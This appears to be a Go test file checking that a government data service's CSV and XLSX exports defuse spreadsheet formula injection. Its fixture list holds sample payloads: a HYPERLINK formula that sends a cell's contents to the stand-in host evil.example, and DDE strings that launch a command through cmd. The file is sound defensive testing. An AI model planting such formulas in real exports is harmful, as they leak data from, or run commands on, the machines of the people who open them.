package export_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/govdata/govdata"
	"github.com/govdata/govdata/export"
)

// formulas are cell texts a spreadsheet would evaluate, one per leading
// character of the rule (=, +, -, @, tab, carriage return).
var formulas = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"点此")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

func TestCell(t *testing.T) {
	for _, s := range formulas {
		if got := export.Cell(s); got != "'"+s {
			t.Errorf("Cell(%q) = %q, want an apostrophe first", s, got)
		}
	}
	// Numbers stay numbers; other text stays as it is.
	for _, s := range []string{"", "-3.50", "+86", "1e5", "-2E-3", "张三", "'=已转义", " =1", "a=b", "110105194912310038"} {
		if got := export.Cell(s); got != s {
			t.Errorf("Cell(%q) = %q, want it unchanged", s, got)
		}
	}
}

// The data service's CSV export: every value and item name that would be
// a formula is written as text.
func TestExportCSVFormulas(t *testing.T) {
	var buf bytes.Buffer
	w, err := export.New(&buf, "csv", []string{"姓名", "=备注"}, "trace-1")
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range formulas {
		v, amount := s, "-12.5"
		if err := w.Row(govdata.Record{"姓名": &v, "=备注": &amount}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.End(); err != nil {
		t.Fatal(err)
	}
	_, body, _ := strings.Cut(buf.String(), "\n") // the BOM and the trace line
	records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != len(formulas)+1 || records[0][1] != "'=备注" {
		t.Fatalf("records %q", records)
	}
	for i, s := range formulas {
		if got := records[i+1]; got[0] != "'"+s || got[1] != "-12.5" {
			t.Errorf("row for %q: %q", s, got)
		}
	}
}

// The XLSX export writes every value as a typed string: no cell is a
// formula, whatever it begins with, so no apostrophe is added.
func TestExportXLSXFormulas(t *testing.T) {
	var buf bytes.Buffer
	w, err := export.New(&buf, "xlsx", []string{"=姓名"}, "trace-1")
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range formulas {
		v := s
		if err := w.Row(govdata.Record{"=姓名": &v}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.End(); err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, _ := f.Open()
		b, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
			t.Errorf("%s holds a formula: %s", f.Name, b)
		}
	}
	x, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	for i, s := range append([]string{"=姓名"}, formulas...) {
		cell, _ := excelize.CoordinatesToCellName(1, i+1)
		if f, _ := x.GetCellFormula("data", cell); f != "" {
			t.Errorf("%s is the formula %q", cell, f)
		}
		if typ, _ := x.GetCellType("data", cell); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("%s (%q) has type %v, want a string", cell, s, typ)
		}
	}
}
